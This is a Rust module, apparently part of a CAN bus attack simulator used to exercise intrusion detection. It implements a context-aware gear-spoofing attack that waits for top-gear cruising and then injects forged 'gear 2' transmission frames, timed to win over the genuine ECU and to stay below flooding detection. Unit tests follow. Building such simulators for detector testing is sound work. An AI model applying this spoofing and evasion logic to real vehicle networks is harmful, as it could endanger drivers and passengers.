/// Context-aware gear spoofing
///
/// The attacker listens passively and only tracks observed rpm and gear.
/// Once the vehicle is cruising in top gear above the rpm threshold it
/// injects forged gear frames for a fixed time, faster than the genuine
/// transmission ECU (so the forged value is usually the latest one seen)
/// but slow enough to stay under the flooding volume. Then it backs off.
///
/// Waiting -> Injecting -> Backoff -> Waiting
use crate::attack_sim::{AttackKind, AttackReport};
use crate::can_bus::{BusSender, BusSubscription, Received};
use crate::config::ContextSpoofConfig;
use crate::errors::{BusError, SetupError};
use crate::security_log::SecurityLogger;
use crate::stop::StopSignal;
use crate::types::{CanFrame, CanId, can_ids, encoding};
use std::time::Duration;
use tokio::time::Instant;

#[derive(Debug, Clone, Copy, PartialEq)]
pub enum SpoofPhase {
    Waiting,
    /// Injecting until the given bus time
    Injecting { until: f64 },
    /// Cooling down until the given bus time
    Backoff { until: f64 },
}

impl SpoofPhase {
    pub fn name(&self) -> &'static str {
        match self {
            SpoofPhase::Waiting => "WAITING",
            SpoofPhase::Injecting { .. } => "INJECTING",
            SpoofPhase::Backoff { .. } => "BACKOFF",
        }
    }
}

pub struct ContextSpoofer {
    config: ContextSpoofConfig,
    phase: SpoofPhase,
    rpm: Option<u16>,
    gear: Option<u8>,
    bursts: u64,
}

impl ContextSpoofer {
    pub fn new(config: ContextSpoofConfig) -> Self {
        Self {
            config,
            phase: SpoofPhase::Waiting,
            rpm: None,
            gear: None,
            bursts: 0,
        }
    }

    pub fn config(&self) -> &ContextSpoofConfig {
        &self.config
    }

    pub fn phase(&self) -> SpoofPhase {
        self.phase
    }

    pub fn is_injecting(&self) -> bool {
        matches!(self.phase, SpoofPhase::Injecting { .. })
    }

    /// Last observed (rpm, gear)
    pub fn observed(&self) -> (Option<u16>, Option<u8>) {
        (self.rpm, self.gear)
    }

    /// Completed injection bursts
    pub fn bursts(&self) -> u64 {
        self.bursts
    }

    /// Track the two signals the trigger needs; everything else is ignored
    pub fn observe(&mut self, frame: &CanFrame) {
        if frame.id == can_ids::ENGINE_RPM {
            if let Some(rpm) = encoding::decode_rpm(&frame.data) {
                self.rpm = Some(rpm);
            }
        } else if frame.id == can_ids::TRANSMISSION
            && let Some(gear) = encoding::decode_gear(&frame.data)
        {
            self.gear = Some(gear);
        }
    }

    /// Physical precondition: top gear above the rpm threshold
    pub fn precondition_met(&self) -> bool {
        self.gear == Some(self.config.trigger_gear)
            && self.rpm.is_some_and(|rpm| rpm > self.config.rpm_threshold)
    }

    /// Advance the phase at bus time `now`; returns the new phase on a change
    pub fn poll(&mut self, now: f64) -> Option<SpoofPhase> {
        let next = match self.phase {
            SpoofPhase::Waiting if self.precondition_met() => SpoofPhase::Injecting {
                until: now + self.config.inject_secs,
            },
            SpoofPhase::Injecting { until } if now >= until => {
                self.bursts += 1;
                SpoofPhase::Backoff {
                    until: now + self.config.backoff_secs,
                }
            }
            SpoofPhase::Backoff { until } if now >= until => SpoofPhase::Waiting,
            _ => return None,
        };
        self.phase = next;
        Some(next)
    }

    /// The forged transmission frame
    pub fn forged_frame(&self) -> (CanId, Vec<u8>) {
        (
            can_ids::TRANSMISSION,
            encoding::encode_gear(self.config.forged_gear).to_vec(),
        )
    }
}

/// Drive `spoofer` on the bus `sender` is attached to until stopped
pub async fn run_context_spoof(
    mut spoofer: ContextSpoofer,
    sender: BusSender,
    stop: StopSignal,
    security_log: Option<SecurityLogger>,
) -> Result<AttackReport, SetupError> {
    let mut report = AttackReport::new(AttackKind::ContextSpoof);
    let mut subscription = sender.bus().subscribe_excluding(&sender)?;
    let poll = Duration::from_millis(spoofer.config().poll_ms.max(1));
    let inject_period = spoofer.config().inject_period();
    let (forged_id, forged_data) = spoofer.forged_frame();

    tracing::info!(
        trigger_gear = spoofer.config().trigger_gear,
        rpm_threshold = spoofer.config().rpm_threshold,
        "waiting for cruising"
    );

    while !stop.is_stopped() {
        let wait = if spoofer.is_injecting() {
            match sender.send(forged_id, forged_data.clone()) {
                Ok(()) => report.frames_sent += 1,
                Err(BusError::Closed) => break,
                Err(e) => {
                    report.send_failures += 1;
                    tracing::warn!(error = %e, "forged frame rejected");
                }
            }
            inject_period
        } else {
            poll
        };

        if !observe_for(&mut subscription, &mut spoofer, wait).await {
            break;
        }

        if let Some(phase) = spoofer.poll(sender.now()) {
            let (rpm, gear) = spoofer.observed();
            tracing::info!(phase = phase.name(), ?rpm, ?gear, "context spoof phase");
            if let Some(log) = &security_log {
                log.log_injector_phase(AttackKind::ContextSpoof.as_str(), phase.name());
            }
        }
    }

    report.cycles = spoofer.bursts();
    Ok(report.finish())
}

/// Feed frames to the spoofer for `wait`. False once the bus is closed.
async fn observe_for(
    subscription: &mut BusSubscription,
    spoofer: &mut ContextSpoofer,
    wait: Duration,
) -> bool {
    let deadline = Instant::now() + wait;
    loop {
        let now = Instant::now();
        if now >= deadline {
            return true;
        }
        match subscription.recv_timeout(deadline - now).await {
            Received::Frame(frame) => spoofer.observe(&frame),
            Received::Timeout => return true,
            Received::Closed => return false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn frame(id: CanId, data: Vec<u8>) -> CanFrame {
        CanFrame::new(id, data, "ECU".into(), 0.0)
    }

    fn cruising(spoofer: &mut ContextSpoofer, rpm: u16, gear: u8) {
        spoofer.observe(&frame(can_ids::ENGINE_RPM, encoding::encode_rpm(rpm).to_vec()));
        spoofer.observe(&frame(can_ids::TRANSMISSION, encoding::encode_gear(gear).to_vec()));
    }

    #[test]
    fn test_waits_without_precondition() {
        let mut spoofer = ContextSpoofer::new(ContextSpoofConfig::default());
        assert_eq!(spoofer.poll(0.0), None);

        cruising(&mut spoofer, 2400, 4);
        assert_eq!(spoofer.poll(1.0), None);

        // rpm must exceed the threshold, not just reach it
        cruising(&mut spoofer, 2000, 5);
        assert_eq!(spoofer.poll(2.0), None);
        assert_eq!(spoofer.phase(), SpoofPhase::Waiting);
    }

    #[test]
    fn test_full_cycle() {
        let mut spoofer = ContextSpoofer::new(ContextSpoofConfig::default());
        cruising(&mut spoofer, 2200, 5);

        assert_eq!(spoofer.poll(10.0), Some(SpoofPhase::Injecting { until: 14.0 }));
        assert!(spoofer.is_injecting());
        assert_eq!(spoofer.poll(13.9), None);

        assert_eq!(spoofer.poll(14.0), Some(SpoofPhase::Backoff { until: 24.0 }));
        assert_eq!(spoofer.bursts(), 1);

        // still cruising, but backing off
        assert_eq!(spoofer.poll(20.0), None);
        assert_eq!(spoofer.poll(24.0), Some(SpoofPhase::Waiting));
        assert!(matches!(spoofer.poll(24.1), Some(SpoofPhase::Injecting { .. })));
    }

    #[test]
    fn test_ignores_unrelated_frames() {
        let mut spoofer = ContextSpoofer::new(ContextSpoofConfig::default());
        spoofer.observe(&frame(can_ids::ABS_STATUS, vec![1, 0]));
        spoofer.observe(&frame(can_ids::TRANSMISSION, vec![]));
        assert_eq!(spoofer.observed(), (None, None));
    }

    #[test]
    fn test_forged_frame_is_gear_two() {
        let spoofer = ContextSpoofer::new(ContextSpoofConfig::default());
        assert_eq!(
            spoofer.forged_frame(),
            (can_ids::TRANSMISSION, vec![2, 0, 0, 0])
        );
    }
}
